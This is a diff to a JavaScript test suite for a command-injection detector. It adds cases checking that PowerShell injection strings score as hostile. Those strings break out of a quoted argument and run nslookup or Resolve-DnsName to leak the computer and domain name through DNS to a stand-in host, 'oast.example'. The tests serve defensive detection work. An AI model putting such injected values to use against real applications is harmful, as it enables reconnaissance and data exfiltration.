@@ -408,6 +408,12 @@ describe('command injection pack', () => {
     expect(score(commandInjectionPack, value)).toBeLessThan(5);
   });
 
+  it('reads a variable inside a quoted argument as a command argument', () => {
+    expect(score(commandInjectionPack, `x';nslookup "$env:COMPUTERNAME.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
+    expect(score(commandInjectionPack, `x';Resolve-DnsName "$env:USERDOMAIN.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
+    expect(score(commandInjectionPack, 'x; more "$5 off" deals')).toBe(0);
+  });
+
   it('reads a lone number as a command argument only for delay commands', () => {
     expect(score(commandInjectionPack, 'sleep 10')).toBe(4);
     expect(score(commandInjectionPack, 'Start-Sleep 5')).toBe(4);
